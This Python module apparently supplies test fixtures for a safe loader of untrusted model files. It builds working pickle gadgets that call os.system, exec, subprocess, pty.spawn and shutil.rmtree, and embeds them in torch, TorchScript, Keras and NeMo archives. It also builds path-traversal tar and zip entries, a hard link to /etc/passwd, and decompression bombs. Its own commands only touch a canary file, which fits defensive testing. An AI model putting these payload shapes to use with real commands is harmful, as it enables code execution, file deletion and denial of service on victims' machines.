"""Bytes that would run a command, take all memory or lie about themselves: what strangers' files may hold.

Each payload, were it ever executed, makes the file named by the environment variable CANARY.
"""

import gzip
import io
import json
import marshal
import struct
import tarfile
import zipfile
import zlib

COMMAND = 'touch "$CANARY"'
PYTHON = "import os; open(os.environ['CANARY'], 'w').close()"


def gadget(module: str, name: str, *arguments: str) -> bytes:
    """Return a pickle that calls a function by its name, whether it exists or not."""
    texts = b"".join(b"V" + argument.encode() + b"\n" for argument in arguments)
    return f"c{module}\n{name}\n(".encode() + texts + b"tR."


def stack_global(protocol: int) -> bytes:
    """Return the same call in the opcodes of a later protocol."""
    words = (b"\x8c" + bytes([len(word)]) + word for word in (b"os", b"system"))
    command = COMMAND.encode()
    return (
        b"\x80" + bytes([protocol]) + b"".join(words) + b"\x93X" + struct.pack("<I", len(command)) + command + b"\x85R."
    )


PICKLES = {
    **{f"os.system at protocol {p}": b"\x80" + bytes([p]) + gadget("os", "system", COMMAND) for p in (2, 3)},
    **{f"os.system at protocol {p}": stack_global(p) for p in (4, 5)},
    **{
        f"{module}.{name}": gadget(module, name, *arguments)
        for module, name, *arguments in (
            ("os", "system", COMMAND),
            ("posix", "system", COMMAND),
            ("os", "popen", COMMAND),
            ("os", "execlp", "sh", "sh", "-c", COMMAND),
            ("subprocess", "getoutput", COMMAND),
            ("subprocess", "check_output", COMMAND),
            ("builtins", "eval", f"exec({PYTHON!r})"),
            ("builtins", "exec", PYTHON),
            ("builtins", "__import__", "antigravity"),
            ("builtins", "compile", PYTHON, "x", "exec"),
            ("__builtin__", "eval", f"exec({PYTHON!r})"),
            ("importlib", "import_module", "this"),
            ("operator", "methodcaller", "system", COMMAND),
            ("operator", "attrgetter", "system"),
            ("functools", "partial", COMMAND),
            ("runpy", "_run_code", PYTHON),
            ("runpy", "run_path", "stranger.py"),
            ("pydoc", "pipepager", "x", COMMAND),
            ("pydoc", "locate", "os.system"),
            ("cProfile", "run", PYTHON),
            ("profile", "run", PYTHON),
            ("pdb", "run", PYTHON),
            ("bdb", "Bdb.run", PYTHON),
            ("timeit", "main", PYTHON),
            ("timeit", "timeit", PYTHON),
            ("trace", "Trace.run", PYTHON),
            ("doctest", "debug_script", PYTHON),
            ("code", "InteractiveInterpreter.runcode", PYTHON),
            ("pty", "spawn", "sh"),
            ("uuid", "_get_command_stdout", "sh", "-c", COMMAND),
            ("platform", "popen", COMMAND),
            ("commands", "getoutput", COMMAND),
            ("webbrowser", "open", "http://127.0.0.1:9"),
            ("socket", "create_connection", "127.0.0.1"),
            ("urllib.request", "urlopen", "http://127.0.0.1:9"),
            ("logging", "FileHandler", "../outside/log"),
            ("shutil", "rmtree", "../outside"),
            ("ctypes", "CDLL", "libc.so.6"),
            ("pickle", "loads", "x"),
            ("shelve", "open", "../outside/shelf"),
            ("zipimport", "zipimporter", "x.zip"),
            ("numpy.f2py.crackfortran", "getlincoef", PYTHON, "x"),
            ("numpy.testing._private.utils", "runstring", PYTHON, "x"),
            ("torch.hub", "load", "stranger/repository"),
            ("torch.utils.cpp_extension", "load_inline", "x", COMMAND),
            ("torch.utils.collect_env", "run", COMMAND),
            ("torch.fx.graph_module", "reduce_graph_module", "x"),
            ("torch._dynamo.guards", "GuardBuilder.get", PYTHON),
            ("cloudpickle", "loads", "x"),
            ("dill", "loads", "x"),
            ("joblib", "load", "x"),
            ("distutils.file_util", "write_file", "../outside/x"),
            ("idlelib.run", "Executive.runcode", PYTHON),
            ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", PYTHON),
            ("asyncio.unix_events", "_UnixSubprocessTransport._start", COMMAND),
        )
    },
    "payload and then broken bytes": gadget("os", "system", COMMAND)[:-1] + b"\xff\xff\xff",
    "pickle within a pickle": b"cpickle\nloads\n(C"
    + bytes([len(gadget("os", "system", "x"))])
    + gadget("os", "system", "x")
    + b"tR.",
    "items set on no dict": b"\x80\x02]K\x01K\x02u.",
    "endless memo": b"\x80\x02" + b"]q\x00" * 1000,
    "marshalled code": b"cmarshal\nloads\n(" + marshal.dumps(compile(PYTHON, "x", "exec")) + b"tR.",
}


def zipped(members: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return file.getvalue()


def tarred(*members: tuple[str, bytes, bytes, str]) -> bytes:
    """Return a tar archive of (name, content, type, target of a link)."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content, kind, target in members:
            info = tarfile.TarInfo(name)
            info.size, info.type, info.linkname, info.mode = len(content), kind, target, 0o4755
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


EVIL = gadget("os", "system", COMMAND)
TORCH = zipped({"archive/data.pkl": EVIL, "archive/version": b"3\n", "archive/data/0": b"\0" * 16})
TORCHSCRIPT = zipped({"x/code/__torch__.py": PYTHON.encode(), "x/constants.pkl": EVIL, "x/data.pkl": EVIL})
ARCHIVES = {
    "torch zip": TORCH,
    "torch zip with a wrong checksum": TORCH.replace(b"touch", b"t0uch", 1),
    "torch zip with two central directories": TORCH + zipped({"archive/data.pkl": b"N."}),
    "torch zip that says it is encrypted": TORCH.replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
    ),
    "torch zip with a storage that lies": TORCH[:-30],
    "TorchScript": TORCHSCRIPT,
    "legacy torch tar": tarred(("pickle", EVIL, tarfile.REGTYPE, ""), ("storages", EVIL, tarfile.REGTYPE, "")),
    "tar that leads out": tarred(
        ("../outside/evil", b"x", tarfile.REGTYPE, ""), ("/var/evil", b"x", tarfile.REGTYPE, "")
    ),
    "tar with links": tarred(("l", b"", tarfile.SYMTYPE, "../../outside"), ("l/evil", b"x", tarfile.REGTYPE, "")),
    "tar with a hard link out": tarred(("h", b"", tarfile.LNKTYPE, "/etc/passwd")),
    "tar with a pipe": tarred(("p", b"", tarfile.FIFOTYPE, "")),
    "zip that leads out": zipped({"../outside/evil": b"x", "/var/evil": b"x", "..\\evil": b"x", "C:\\evil": b"x"}),
    "zip of zeros": zipped({"x.npy": b"\0" * 50_000_000}, method=zipfile.ZIP_DEFLATED),
    "gzip of zeros": gzip.compress(b"\0" * 50_000_000),
    "zlib of zeros": zlib.compress(b"\0" * 50_000_000),
    "Keras archive with a lambda": zipped(
        {
            "metadata.json": b"{}",
            "config.json": json.dumps(
                {
                    "class_name": "Lambda",
                    "module": "keras.layers",
                    "config": {"function": {"class_name": "__lambda__", "config": {"code": PYTHON}}},
                }
            ).encode(),
        }
    ),
    "NeMo archive": tarred(("model_config.yaml", b"_target_: os.system\ncommand: x\n", tarfile.REGTYPE, "")),
    "HDF5": b"\x89HDF\r\n\x1a\n" + b"\0" * 512,
    "ONNX": b"\x08\x07\x12\x07pytorch\x1a\x031.9" + b"\xff" * 64,
    "SavedModel": b"\x08\x01\x12" + b"\xff" * 64,
    "joblib": zlib.compress(EVIL),
    "DCP metadata": b"\x80\x02" + EVIL,
}
